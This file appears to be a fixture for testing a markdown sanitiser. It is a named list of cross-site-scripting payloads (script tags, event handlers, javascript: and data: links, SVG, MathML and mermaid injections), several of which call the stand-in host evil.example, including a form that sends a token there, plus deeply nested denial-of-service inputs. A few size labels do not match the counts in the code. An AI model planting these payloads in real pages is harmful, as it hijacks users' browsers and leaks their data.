/** Markdown that is written to do something to the page that shows it. `{{origin}}` is the sandbox's own address. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': '<script>window.owned = "script"</script>',
  'a script in the middle of a word': 'no<scr<script>ipt>window.owned = 1</scr</script>ipt>',
  'a script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'a script of the page itself': '<script type="module" src="/_sandbox/page/main.js?again"></script>',
  'an image that fails': '<img src="x" onerror="window.owned = 1">',
  'an image from elsewhere': '![pixel](https://evil.example/pixel.png)',
  'an image without a closing quote': '<img src="x` `<script>window.owned = 1</script>"` `>',
  'an image by srcset': '<img srcset="https://evil.example/pixel.png 1x" src="/x">',
  'a javascript: link': '[click](javascript:window.owned=1)',
  'a javascript: link in capitals and entities': '<a href="JaVaScRiPt&colon;window.owned=1">click</a>',
  'a javascript: link with a control character': '<a href="java\tscript:window.owned=1">click</a>',
  'a javascript: autolink': '<javascript:window.owned=1>',
  'a data: link': '[click](data:text/html,<script>window.owned=1</script>)',
  'a vbscript: link': '[click](vbscript:msgbox(1))',
  'an svg with a script': '<svg><script>window.owned = 1</script></svg>',
  'an svg that loads': '<svg onload="window.owned = 1"><use href="https://evil.example/a.svg#x"/></svg>',
  'an svg animation of a link':
    '<svg><a><animate attributeName=href values=javascript:owned=1 /><text>click</text></a></svg>',
  'mathml that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned=1&gt;">',
  'a style sheet': '<style>body { display: none } @import "https://evil.example/a.css";</style>',
  'a style attribute':
    '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">cover</p>',
  'a frame':
    '<iframe src="javascript:parent.owned=1"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  'an object and an embed':
    '<object data="javascript:owned=1"></object><embed src="https://evil.example/a.swf">',
  'a form that sends away':
    '<form action="https://evil.example/"><input name="token"><button>Approve</button></form>',
  'a form that names what scripts use':
    '<form id="body"><input name="getElementById"><img name="querySelector"></form>',
  'a base address': '<base href="https://evil.example/">',
  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'events on allowed elements':
    '<details open ontoggle="window.owned=1"><summary onclick="window.owned=1">x</summary></details>',
  'focus at once':
    '<input autofocus onfocus="window.owned=1"><a href="#" autofocus onfocus="window.owned=1">x</a>',
  'a template': '<template><img src=x onerror="window.owned=1"></template>',
  'a video':
    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4" onerror="window.owned=1"></video>',
  'a table with a background': '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
  'classes and ids of the page': '<div class="flash bad" id="main" role="alert">Approved by ada</div>',
  'the attributes of a diagram': '<figure class="diagram" data-source="x">x</figure>',
  'an unclosed comment': '<!-- <img src=x onerror="window.owned=1"> --!><img src=x onerror="window.owned=1">',
  'a title that ends early': '[x](/y "a\\" onmouseover=\\"window.owned=1")',
  'a code fence with markup as its language': '```"><img src=x onerror=window.owned=1>\ncode\n```',
  'markup in a link definition': '[x]\n\n[x]: javascript:window.owned=1 "t"',
  'a diagram with a script':
    '```mermaid\nflowchart LR\n  a["<img src=x onerror=parent.owned=1>"] --> b\n  click a "javascript:parent.owned=1"\n```',
  'a diagram that asks for less security':
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  a["<iframe src=https://evil.example/>"] --> b\n  click a call alert(1)\n```',
  'a diagram that is none': '```mermaid\nthis is <b>no diagram</b>\n```',
  'nested quotes, 20,000 deep': '>'.repeat(20_000),
  'nested lists, 2,000 deep': Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
  'nested emphasis, 15,000 deep': `${'*a **a '.repeat(8_000)}`,
  'nested brackets, 30,000 deep': '['.repeat(30_000),
  'nested elements, 8,000 deep': '<div>'.repeat(8_000),
  'a table of 3,000 columns': `${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|\n`,
  'unclosed code, 30,000 times': '`a ``'.repeat(10_000),
};
